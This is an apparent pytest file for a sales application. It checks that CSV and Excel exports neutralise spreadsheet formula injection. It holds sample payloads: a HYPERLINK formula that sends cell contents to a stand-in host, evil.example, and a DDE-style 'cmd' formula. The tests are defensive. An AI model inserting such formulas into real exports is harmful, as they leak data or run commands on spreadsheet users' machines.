"""Exports never hand a spreadsheet a formula (issue 21, F2; docs/security.md, Exports).

A text typed by anyone may look like a formula. CSV downloads neutralise such cells with a
leading `'`, Excel downloads write them as text cells; numbers stay numbers.
"""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from salesorg.core.exports import csv_cell, csv_text, xlsx_append, xlsx_bytes, xlsx_workbook
from salesorg.sales.models import Visit
from tests.factories import ContactFactory, CustomerFactory

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SPREADSHEET_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response).decode("utf-8-sig") if response.streaming else None
    text = text if text is not None else response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def xlsx_cells(body: bytes) -> list:
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def is_number_text(text: str) -> bool:
    try:
        Decimal(text.replace(",", "").replace("¥", "").removesuffix("%"))
    except ArithmeticError:
        return False
    return True


def evaluated_csv_cells(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would evaluate: formula-like and not a plain number."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(SPREADSHEET_STARTS) and not is_number_text(cell)
    ]


# --- the helper ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-¥1,234.50x"]
)
def test_formula_looking_texts_get_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value, expected",
    [
        (Decimal("-3.00"), "-3.00"),
        (-12, "-12"),
        ("-1,234.00", "-1,234.00"),
        ("-¥1,234.50", "-¥1,234.50"),
        ("+12.5%", "+12.5%"),
        ("-0.3333333333", "-0.3333333333"),
        (date(2026, 1, 2), "2026-01-02"),
        (None, ""),
        ("客户 = 1", "客户 = 1"),
        ("'=already quoted", "'=already quoted"),
    ],
)
def test_numbers_and_plain_texts_stay_as_they_are(value, expected):
    assert csv_cell(value) == expected


def test_a_machine_format_keeps_its_cells_verbatim():
    assert csv_text(["code"], [["-R1"]], neutralise=False) == "code\n-R1\n"
    assert csv_text(["code"], [["-R1"]]) == "code\n'-R1\n"


def test_excel_cells_from_text_are_text_and_numbers_stay_numbers():
    for write_only in (True, False):
        book = xlsx_workbook(write_only=write_only)
        sheet = book.create_sheet() if write_only else book.active
        xlsx_append(sheet, [ATTACK, "#N/A", "-1", Decimal("-2.50"), 7, date(2026, 1, 2), "a\x01b"])
        cells = xlsx_cells(xlsx_bytes(book))
        assert [(c.value, c.data_type) for c in cells[:4]] == [
            (ATTACK, "s"),
            ("#N/A", "s"),
            ("-1", "s"),
            (-2.5, "n"),
        ]
        assert cells[4].value == 7 and cells[5].is_date and cells[6].value == "ab"
        assert cells[0].quotePrefix  # Excel keeps it text even when the cell is edited


# --- the finding as reported --------------------------------------------------------------------


@pytest.mark.django_db
def test_a_formula_typed_by_a_rep_reaches_the_managers_visits_csv_as_text(org_tree):
    """F2: a rep sets a visit's purpose to a formula by API; the manager downloads visits."""
    rep = org_tree.people["rep_east1a"]
    customer = CustomerFactory(owner=rep)
    payload = {
        "rep_id": rep.pk,
        "customer_id": customer.pk,
        "visit_date": "2026-01-05",
        "purpose": ATTACK,
        "contact_ids": [ContactFactory(customer=customer).pk],
    }
    response = org_tree.client("rep_east1a").post(
        "/api/v1/visits", payload, content_type="application/json"
    )
    assert response.status_code == 201, response.content
    assert Visit.objects.get().purpose == ATTACK  # stored as typed

    rows = csv_rows(org_tree.client("manager_east1").get("/sales/visits/?format=csv"))

    assert "'" + ATTACK in rows[1] and not evaluated_csv_cells(rows)


@pytest.mark.django_db
def test_a_customer_named_like_a_formula_is_a_text_cell_in_excel(org_tree):
    CustomerFactory(owner=org_tree.people["rep_east1a"], name=ATTACK)

    response = org_tree.client("manager_east1").get("/customers/?format=xlsx")

    names = [c for c in xlsx_cells(response.content) if c.value == ATTACK]
    assert names and all(c.data_type == "s" for c in names)
